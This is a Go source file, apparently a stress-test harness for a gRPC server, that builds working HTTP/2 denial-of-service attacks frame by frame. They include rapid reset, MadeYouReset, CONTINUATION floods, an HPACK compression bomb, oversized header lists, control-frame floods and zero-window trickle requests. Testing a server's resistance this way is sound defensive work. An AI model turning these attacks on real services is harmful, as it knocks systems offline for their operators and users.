package hostile

import (
	"bytes"
	"slices"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// zeroWindow gives replies no flow-control window.
var zeroWindow = ConnOptions{Settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}}

// Attacks returns all attacks.
func Attacks(t Target) []Attack {
	headers := block(shouldRateLimit)
	request := Request(t.Domain, t.Key, t.Value)
	opened := openStream(headers)
	called := func(b []byte, stream uint32) []byte { return appendCall(b, stream, headers, request) }
	return append([]Attack{
		repeated("calls without pause", ConnOptions{}, 2, called),
		{Name: "HPACK bomb", begin: hpackBomb},
		{Name: "headers too large", begin: largeHeaders},
		repeated("open streams", ConnOptions{}, 1, opened),
		{Name: "DATA of one byte", begin: func(c *Conn) (func() error, error) { return c.trickle(headers, 1) }},
		{Name: "requests without an end", begin: func(c *Conn) (func() error, error) { return c.trickle(headers, 1025) }},
		{Name: "windows that grow", options: zeroWindow, begin: growWindows},
		repeated("rapid reset", ConnOptions{}, 2, func(b []byte, stream uint32) []byte {
			return appendCode(opened(b, stream), http2.FrameRSTStream, stream, uint32(http2.ErrCodeCancel))
		}),
		repeated("rapid reset of complete calls", ConnOptions{}, 3, func(b []byte, stream uint32) []byte {
			return appendCode(called(b, stream), http2.FrameRSTStream, stream, uint32(http2.ErrCodeCancel))
		}),
		repeated("MadeYouReset", ConnOptions{}, 3, func(b []byte, stream uint32) []byte {
			return appendCode(called(b, stream), http2.FrameWindowUpdate, stream, 0)
		}),
		{Name: "CONTINUATION flood", begin: func(c *Conn) (func() error, error) {
			return c.continuation(headers, strings.Repeat("x", 8000))
		}},
		{Name: "empty CONTINUATION flood", begin: func(c *Conn) (func() error, error) { return c.continuation(headers, "") }},
		flood("PING flood", appendFrame(nil, http2.FramePing, 0, 0, make([]byte, 8))),
		flood("SETTINGS flood", appendSettings(nil, http2.Setting{ID: http2.SettingMaxConcurrentStreams, Val: 100})),
		flood("WINDOW_UPDATE flood", appendCode(nil, http2.FrameWindowUpdate, 0, 1)),
		flood("PRIORITY flood", appendFrame(nil, http2.FramePriority, 0, 1, []byte{0, 0, 0, 0, 1})),
		flood("flood of unknown frames", appendFrame(nil, 0xfe, 0, 0, nil)),
		{Name: "empty DATA flood", begin: func(c *Conn) (func() error, error) {
			err := c.Send(1, opened(nil, 1))
			return c.repeatBytes(chunk, repeatFrame(chunk, appendFrame(nil, http2.FrameData, 0, 1, nil))), err
		}},
		repeated("replies never read", ConnOptions{NeverRead: true}, 2, called),
		repeated("windows of zero", zeroWindow, 2, called),
	}, append(windowAttacks(headers, request),
		Attack{Name: "requests that are not gRPC", options: zeroWindow, begin: otherContentType},
	)...)
}

// repeated returns an attack that makes calls continuously. add appends the frames of a call.
func repeated(name string, m ConnOptions, frames int, add func(b []byte, stream uint32) []byte) Attack {
	return Attack{Name: name, options: m, begin: func(c *Conn) (func() error, error) { return c.callsOf(1, frames, add), nil }}
}

// chunk is the number of small frames per write.
const chunk = 1024

// flood returns an attack that sends one frame repeatedly.
func flood(name string, frame []byte) Attack {
	return Attack{Name: name, begin: func(c *Conn) (func() error, error) {
		return c.repeatBytes(chunk, repeatFrame(chunk, frame)), nil
	}}
}

// hpackBomb adds a field to the dynamic table that nearly fills it. Its requests then contain
// thousands of references to that field, one byte each.
func hpackBomb(c *Conn) (func() error, error) {
	first, bomb, err := bombOf(block(shouldRateLimit), 4000)
	if err != nil {
		return nil, err
	}
	if err := c.Send(1, appendFrame(nil, http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1, first)); err != nil {
		return nil, err
	}
	stream := uint32(3)
	var b []byte
	return func() error {
		b = appendFrame(b[:0], http2.FrameHeaders, http2.FlagHeadersEndHeaders|http2.FlagHeadersEndStream, stream, bomb)
		stream += 2
		return c.Send(1, b)
	}, nil
}

// bombOf returns a header block that adds the field to the table, and one that contains the given
// number of references to it.
func bombOf(headers []byte, times int) (first, bomb []byte, err error) {
	var large bytes.Buffer
	err = hpack.NewEncoder(&large).WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("x", 3900)})
	const newest = 0x80 | 62 // first entry of the dynamic table
	return slices.Concat(headers, large.Bytes()), slices.Concat(headers, bytes.Repeat([]byte{newest}, times)), err
}

// largeHeaders makes calls with more headers than the server accepts, in frames of the maximum
// size.
func largeHeaders(c *Conn) (func() error, error) {
	// 15 KiB per frame. Each field counts as 32 bytes more, so that ten frames are a header list of
	// about 200 KiB.
	var fields []hpack.HeaderField
	for range 230 {
		fields = append(fields, hpack.HeaderField{Name: "x", Value: strings.Repeat("~", 60)})
	}
	headers := block(shouldRateLimit, fields...)
	more := block("", fields...)[len(block("")):]
	const parts = 9
	stream := uint32(1)
	var b []byte
	return func() error {
		b = appendFrame(b[:0], http2.FrameHeaders, http2.FlagHeadersEndStream, stream, headers)
		for range parts - 1 {
			b = appendFrame(b, http2.FrameContinuation, 0, stream, more)
		}
		b = appendFrame(b, http2.FrameContinuation, http2.FlagContinuationEndHeaders, stream, more)
		stream += 2
		return c.Send(1+parts, b)
	}, nil
}

// manyStreams is the number of streams kept open, the maximum that sluice allows.
const manyStreams = 1024

// onManyStreams returns a step that sends frames on each of manyStreams streams. add appends the
// frames of a stream.
func (c *Conn) onManyStreams(frames int, add func(b []byte, stream uint32) []byte) func() error {
	var b []byte
	return func() error {
		b = b[:0]
		for i := range uint32(manyStreams) {
			b = add(b, 1+2*i)
		}
		return c.Send(frames*manyStreams, b)
	}
}

// trickle starts many requests of nearly the maximum size. It sends all but the last bytes of each,
// stream by stream, in frames of the given size.
func (c *Conn) trickle(headers []byte, size int) (func() error, error) {
	const message = 64 << 10
	opened := openStream(headers)
	if err := c.onManyStreams(2, func(b []byte, stream uint32) []byte {
		return appendFrame(opened(b, stream), http2.FrameData, 0, stream, prefix(message))
	})(); err != nil {
		return nil, err
	}
	part := make([]byte, size)
	more := c.onManyStreams(1, func(b []byte, stream uint32) []byte { return appendFrame(b, http2.FrameData, 0, stream, part) })
	// The window of a stream allows all bytes but the prefix and the last ones.
	left := (defaultWindow - 5) / size
	return func() error {
		if left == 0 {
			return errKeepOpen
		}
		left--
		return more()
	}, nil
}

// growWindows calls reflection on many streams without reading the replies, so that requests stay
// queued. It sends as much as the server's windows allow. It answers PINGs, because grpc-go grows
// windows by them.
func growWindows(c *Conn) (func() error, error) {
	// Before the server's SETTINGS, sending more would be a protocol error.
	select {
	case <-c.greeted:
	case <-c.ended:
	}
	if err := c.onManyStreams(1, openStream(block(reflectionInfo)))(); err != nil {
		return nil, err
	}
	question := Framed(field(7, "*")) // list_services
	part := repeatFrame((16<<10)/len(question), question)
	var sent [manyStreams]int64
	next := 0
	var b []byte
	return func() error {
		b := b[:0]
		frames := 0
		for window := c.window.Load(); frames < 64 && next < manyStreams; {
			if sent[next]+int64(len(part)) > window {
				next++
				continue
			}
			b = appendFrame(b, http2.FrameData, 0, uint32(1+2*next), part)
			sent[next] += int64(len(part))
			frames++
		}
		if next == manyStreams {
			// All windows are exhausted. They may grow, so try again.
			next = 0
			if frames == 0 {
				time.Sleep(time.Millisecond)
			}
		}
		if err := c.Send(frames, b); err != nil {
			return err
		}
		return c.Flush()
	}, nil
}

// continuation starts a header block that never ends.
func (c *Conn) continuation(headers []byte, value string) (func() error, error) {
	if err := c.Send(1, appendFrame(nil, http2.FrameHeaders, http2.FlagHeadersEndStream, 1, headers)); err != nil {
		return nil, err
	}
	var fields []byte
	if value != "" {
		fields = block("", hpack.HeaderField{Name: "x", Value: value})
		fields = fields[len(block("")):]
	}
	frame := appendFrame(nil, http2.FrameContinuation, 0, 1, fields)
	n := max(1, (32<<10)/len(frame))
	return c.repeatBytes(n, repeatFrame(n, frame)), nil
}
